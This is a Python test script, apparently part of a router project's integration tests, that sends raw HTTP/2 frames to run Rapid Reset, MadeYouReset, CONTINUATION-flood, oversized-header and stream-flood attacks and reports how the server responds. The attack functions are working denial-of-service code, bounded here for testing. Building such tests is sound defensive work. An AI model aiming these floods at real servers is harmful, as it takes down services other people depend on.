#!/usr/bin/env python3
"""HTTP/2 abuse at the frame level, for tests/it/h2_attacks.rs. Speaks h2 to HOST:PORT with
PyPI's `h2`/`hyperframe` over a raw socket: with prior knowledge (h2c), or with `--tls` over
TLS with ALPN h2 (Python's ssl, certificate not verified: the router's self-signed default).
Prints one JSON object saying what the server did. Every loop is bounded in count and in time
(10 s of sending, then at most a few seconds of reading).

    h2_attack.py [OPTIONS] rapid-reset HOST PORT N    HEADERS + RST_STREAM(CANCEL), N streams
    h2_attack.py [OPTIONS] made-you-reset HOST PORT N HOW
                                     N streams the server is made to reset itself, HOW:
                                     window-overflow  WINDOW_UPDATE past 2^31-1 on the stream
                                                      (FLOW_CONTROL_ERROR stream error)
                                     content-length   `content-length: 1`, then 2 bytes of DATA
                                                      (PROTOCOL_ERROR stream error)
                                     window-zero      WINDOW_UPDATE of 0 on the stream
    h2_attack.py [OPTIONS] continuation HOST PORT BYTES  HEADERS, then CONTINUATION without end
    h2_attack.py [OPTIONS] big-headers HOST PORT BYTES   one request with a BYTES header list
    h2_attack.py [OPTIONS] streams HOST PORT N PATH      N concurrent requests to PATH at once

Options: `--tls` (TLS, ALPN h2); for rapid-reset and made-you-reset `--batch K` (streams per
write, default 50; each write is followed by a PING the server must answer before the next)
and `--lag L` (a stream's
RST_STREAM, or the frame that makes the server reset it, goes L streams after its HEADERS,
default 0: in the same write; with `--batch 1 --lag 1` the server has taken each request up,
and sent it on, before the stream is reset).

Verdict keys: `sent` (streams the server read, or bytes written, before it stopped them),
`goaway` (the GOAWAY error code as a string) and `last_stream_id` (its last processed stream),
`closed` (the server closed the socket), `stalled` (a write or a PING waited 5 s: the server
stopped reading), `resets` (RST_STREAMs from the server), `responses` (response HEADERS),
`alpn` (the protocol TLS agreed on).
"""

import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

DEADLINE = time.monotonic() + 10.0
IO_TIMEOUT = 5.0
TLS = False
BATCH = 50  # streams per write in the floods (--batch)
LAG = 0  # a stream's reset (or reset-provoking frame) follows LAG streams later (--lag)


def connect(host, port):
    s = socket.create_connection((host, port), timeout=IO_TIMEOUT)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    alpn = None
    if TLS:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        alpn = s.selected_alpn_protocol()
        if alpn != "h2":
            raise SystemExit(json.dumps({"error": f"ALPN gave {alpn!r}, not h2"}))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn, alpn


def request_headers(host, path="/", method="GET", extra=()):
    scheme = "https" if TLS else "http"
    return [(":method", method), (":scheme", scheme), (":authority", host), (":path", path),
            *extra]


class Watch:
    """Reads the server's frames raw (the client's h2 state machine never saw the streams these
    floods open, so it cannot judge them), answers SETTINGS and PING, and keeps the socket's own
    timeout for writes."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.last_stream_id = None
        self.closed = False
        self.resets = 0
        self.responses = 0
        self.pongs = set()

    def poll(self, wait=0.0):
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            return
        except OSError:
            self.closed = True
            return
        finally:
            self.sock.settimeout(IO_TIMEOUT)
        if not data:
            self.closed = True
            return
        self.buf += data
        out = b""
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = str(frame.error_code)
                self.last_stream_id = frame.last_stream_id
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, HeadersFrame):
                self.responses += 1
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                out += SettingsFrame(0, flags=["ACK"]).serialize()
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                out += PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize()
            elif isinstance(frame, PingFrame):
                self.pongs.add(bytes(frame.opaque_data))
        if out:
            try:
                self.sock.sendall(out)
            except OSError:
                pass

    def done(self):
        return self.closed or self.goaway is not None

    def hung_up(self):
        """A write failed: read what the server said before it closed (its GOAWAY, which a
        racing reset may otherwise hide), then count the connection as closed."""
        for _ in range(3):
            if self.done():
                break
            self.poll(0.2)
        self.closed = True

    def sync(self, n, seconds=5.0):
        """Sends PING `n` and reads until its ACK (the server has read every frame before it),
        the end of the connection, or `seconds`; False if the server did not answer in time."""
        data = n.to_bytes(8, "big")
        try:
            self.sock.sendall(PingFrame(0, data).serialize())
        except socket.timeout:
            return False
        except OSError:
            self.hung_up()
            return True
        end = time.monotonic() + seconds
        while data not in self.pongs and not self.done() and time.monotonic() < end:
            self.poll(0.05)
        return data in self.pongs or self.done()

    def drain(self, seconds=2.0):
        end = time.monotonic() + seconds
        while not self.done() and time.monotonic() < end:
            self.poll(0.1)


def header_block(conn, headers):
    return conn.encoder.encode(headers)


def stream_flood(host, port, n, opener, follower):
    """Opens up to n streams, BATCH at a time in one write (the way an attacker packs them):
    each stream's `opener(conn, id)` frames, then its `follower(conn, id)` frames — right after,
    or LAG streams later (so the server has taken the request up before). After each write a
    PING waits for the server to have read it all, so `sent` counts streams the server took in,
    not bytes parked in socket buffers. Stops when the server ends the connection. The frames
    are written raw, so the client's h2 state machine never holds them back (it only encodes
    the header blocks)."""
    sock, conn, alpn = connect(host, port)
    w = Watch(sock)
    w.poll(0.2)
    sent, stalled = 0, False
    while sent < n and not w.done() and time.monotonic() < DEADLINE:
        k = min(BATCH, n - sent)
        frames = []
        for i in range(sent, sent + k):
            frames += opener(conn, 1 + 2 * i)
            if i >= LAG:
                frames += follower(conn, 1 + 2 * (i - LAG))
        try:
            sock.sendall(b"".join(f.serialize() for f in frames))
        except socket.timeout:
            stalled = True
            break
        except OSError:
            w.hung_up()
            break
        sent += k
        if not w.sync(sent):
            stalled = True
            break
    w.drain()
    return {"sent": sent, "goaway": w.goaway, "last_stream_id": w.last_stream_id,
            "closed": w.closed, "stalled": stalled, "resets": w.resets,
            "responses": w.responses, "alpn": alpn}


def get(host):
    def frames(conn, sid):
        return [HeadersFrame(sid, header_block(conn, request_headers(host)),
                             flags=["END_HEADERS", "END_STREAM"])]
    return frames


def rapid_reset(host, port, n):
    return stream_flood(host, port, n, get(host),
                        lambda conn, sid: [RstStreamFrame(sid, error_code=8)])  # CANCEL


def made_you_reset(host, port, n, how):
    """Streams that the client never resets itself: each is a well-formed request followed by
    a frame that makes the server reset that stream (a stream error, RFC 9113 5.4.2)."""
    opener = get(host)
    if how == "window-overflow":
        # The stream's send window starts at 65535; this takes it past 2^31-1.
        def follower(conn, sid):
            return [WindowUpdateFrame(sid, window_increment=0x7FFFFFFF)]
    elif how == "content-length":
        def opener(conn, sid):
            head = request_headers(host, method="POST", extra=[("content-length", "1")])
            return [HeadersFrame(sid, header_block(conn, head), flags=["END_HEADERS"])]

        def follower(conn, sid):
            return [DataFrame(sid, b"ab", flags=["END_STREAM"])]
    elif how == "window-zero":
        def follower(conn, sid):
            return [WindowUpdateFrame(sid, window_increment=0)]
    else:
        raise SystemExit(f"unknown made-you-reset variant {how}")
    return stream_flood(host, port, n, opener, follower)


def continuation(host, port, total):
    """One HEADERS without END_HEADERS, then CONTINUATION frames of 8 KB (each a new literal
    header) until `total` bytes were written or the server stops it."""
    sock, conn, alpn = connect(host, port)
    w = Watch(sock)
    w.poll(0.2)
    sent, stalled = 0, False
    try:
        sock.sendall(HeadersFrame(1, header_block(conn, request_headers(host)),
                                  flags=[]).serialize())
        i = 0
        while sent < total and not w.done() and time.monotonic() < DEADLINE:
            chunk = header_block(conn, [(f"x-flood-{i}", "a" * 8000)])
            sock.sendall(ContinuationFrame(1, chunk, flags=[]).serialize())
            sent += len(chunk)
            i += 1
            if i % 8 == 0:
                w.poll()
    except socket.timeout:
        stalled = True
    except OSError:
        w.hung_up()
    w.drain()
    return {"sent": sent, "goaway": w.goaway, "closed": w.closed, "stalled": stalled,
            "alpn": alpn}


def big_headers(host, port, size):
    """One GET whose header list is `size` bytes (HEADERS + CONTINUATION, raw frames: the h2
    state machine would honour the server's header list limit itself), and the answer."""
    sock, conn, alpn = connect(host, port)
    # 10 KB values: few enough headers for any backend's header count limit.
    extra = [(f"x-big-{i}", "b" * 10000) for i in range(size // 10000)]
    block = header_block(conn, request_headers(host, extra=extra))
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    data = HeadersFrame(1, parts[0], flags=["END_STREAM"] + (["END_HEADERS"]
                                                             if len(parts) == 1 else [])).serialize()
    for j, part in enumerate(parts[1:], start=1):
        data += ContinuationFrame(1, part,
                                  flags=["END_HEADERS"] if j == len(parts) - 1 else []).serialize()
    closed = False
    try:
        sock.sendall(data)
    except OSError:
        closed = True

    def answered(fs):
        return any((isinstance(f, (HeadersFrame, RstStreamFrame)) and f.stream_id == 1)
                   or isinstance(f, GoAwayFrame) for f in fs)

    frames, eof = read_frames(sock, answered)
    status = reset = goaway = None
    for f in frames:
        if isinstance(f, HeadersFrame) and f.stream_id == 1:
            status = dict(conn.decoder.decode(f.data)).get(":status")
        elif isinstance(f, RstStreamFrame) and f.stream_id == 1:
            reset = str(f.error_code)
        elif isinstance(f, GoAwayFrame):
            goaway = str(f.error_code)
    return {"status": status, "reset": reset, "goaway": goaway, "closed": closed or eof,
            "sent": len(data), "alpn": alpn}


def read_frames(sock, until, seconds=5.0):
    """Raw server frames until `until(frames)` holds, the server closes, or `seconds` pass;
    the frames and whether the server closed."""
    buf, frames, eof = b"", [], False
    end = time.monotonic() + seconds
    sock.settimeout(0.2)
    while not until(frames) and time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except OSError:
            eof = True
            break
        if not data:
            eof = True
            break
        buf += data
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            frames.append(frame)
            buf = buf[9 + length:]
    sock.settimeout(IO_TIMEOUT)
    return frames, eof


def streams(host, port, n, path):
    """SETTINGS_MAX_CONCURRENT_STREAMS as announced, then n requests at once (raw frames: the
    h2 client would hold back the ones past the limit), and what became of each."""
    sock, conn, alpn = connect(host, port)
    frames, _ = read_frames(sock, lambda fs: any(isinstance(f, SettingsFrame)
                                                 and "ACK" not in f.flags for f in fs))
    limit = None
    for f in frames:
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            limit = f.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
    out = SettingsFrame(0, flags=["ACK"]).serialize()
    for i in range(n):
        out += HeadersFrame(1 + 2 * i, header_block(conn, request_headers(host, path)),
                            flags=["END_HEADERS", "END_STREAM"]).serialize()
    sock.sendall(out)
    seen, goaway = {}, []

    def settled(fs):
        for f in fs:
            if isinstance(f, HeadersFrame) and f.stream_id:
                seen.setdefault(f.stream_id, "response")
            elif isinstance(f, RstStreamFrame):
                seen.setdefault(f.stream_id, f"reset {f.error_code}")
            elif isinstance(f, GoAwayFrame):
                goaway.append(str(f.error_code))
        return len(seen) >= n or goaway

    read_frames(sock, settled, seconds=8.0)
    responses = sum(1 for v in seen.values() if v == "response")
    refused = sum(1 for v in seen.values() if v == "reset 7")
    return {"max_concurrent_streams": limit, "responses": responses, "refused": refused,
            "other": n - responses - refused, "goaway": goaway[0] if goaway else None,
            "alpn": alpn}


def main():
    global TLS, BATCH, LAG
    args = sys.argv[1:]
    while args and args[0].startswith("--"):
        if args[0] == "--tls":
            TLS = True
            args = args[1:]
        elif args[0] == "--batch":
            BATCH = max(1, int(args[1]))
            args = args[2:]
        elif args[0] == "--lag":
            LAG = max(0, int(args[1]))
            args = args[2:]
        else:
            raise SystemExit(f"unknown option {args[0]}")
    mode, host, port, rest = args[0], args[1], int(args[2]), args[3:]
    if mode == "rapid-reset":
        out = rapid_reset(host, port, int(rest[0]))
    elif mode == "made-you-reset":
        out = made_you_reset(host, port, int(rest[0]), rest[1])
    elif mode == "continuation":
        out = continuation(host, port, int(rest[0]))
    elif mode == "big-headers":
        out = big_headers(host, port, int(rest[0]))
    elif mode == "streams":
        out = streams(host, port, int(rest[0]), rest[1])
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
